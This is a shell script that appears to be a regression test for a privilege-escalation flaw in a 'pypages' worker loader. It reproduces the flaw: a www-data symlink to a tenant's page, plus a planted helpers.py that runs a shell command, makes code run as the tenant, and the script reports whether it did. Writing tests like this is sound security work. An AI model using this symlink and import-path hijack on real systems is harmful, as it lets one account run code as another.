#!/bin/sh
# F2: owner.py checks the REAL path of a page, but the worker then imported the path as
# given and put ITS folder first on sys.path. A compromised server child (www-data) names
# as the script a link, in a folder of its own, to a tenant's page: the check passes (the
# page is the tenant's), and every import the page makes (here its own sibling `helpers`)
# is looked up first in www-data's folder: www-data's helpers.py runs as the tenant. The
# link can also be re-pointed between the check and the import (the same for a
# --python-path folder). This runs what the worker does with such a REQUEST's script
# (pypages_worker.loader.load_script) as a real tenant with the variable the launcher sets.
# Run as root from the worktree.
set -eu
here=$(cd "$(dirname "$0")" && pwd)
repo=$(cd "$here/../.." && pwd)
name=pprv$$
base=$(mktemp -d /tmp/rv-f2-XXXXXX); chmod 755 "$base"
home=$base/home; www=$base/www-data
mkdir -p "$home/www" "$www"; chmod 711 "$home"; chmod 755 "$home/www" "$www"
useradd --home-dir "$home" --no-create-home --shell /usr/sbin/nologin --user-group "$name"
trap 'pkill -KILL -u "$name" 2>/dev/null || true; userdel "$name" 2>/dev/null || true; rm -rf "$base"' EXIT
printf 'import helpers\napplication = helpers.app\n' >"$home/www/index.py"
printf 'def app(environ, start_response):\n    pass\n' >"$home/www/helpers.py"
chown -R "$name:" "$home"
# What www-data plants, in its own folder: a link to the page and its own helpers.py.
chown www-data: "$www"
setpriv --reuid www-data --regid www-data --clear-groups sh -c "
  mkdir '$www/out'; chmod 777 '$www/out'
  ln -s '$home/www/index.py' '$www/index.py'
  printf 'import os\nos.system(\"id > $www/out/pwned\")\napp = None\n' > '$www/helpers.py'"
uid=$(id -u "$name")
cd /
setpriv --reuid "$uid" --regid "$(id -g "$name")" --clear-groups --no-new-privs env -i \
  PYTHONPATH="$repo/lib/python" PYPAGES_OWNER_ONLY="$uid 33" /usr/bin/python3 -c "
from pypages_worker import loader
try:
    loader.load_script('$www/index.py')
    print('imported')
except Exception as err:
    print('not imported:', type(err).__name__, err)
" || true
if [ -s "$www/out/pwned" ]; then echo "VULNERABLE: www-data's helpers.py ran as the tenant: $(cat "$www/out/pwned")"; exit 1; fi
echo "not reproduced (fixed): nothing of www-data's folder ran as $name"
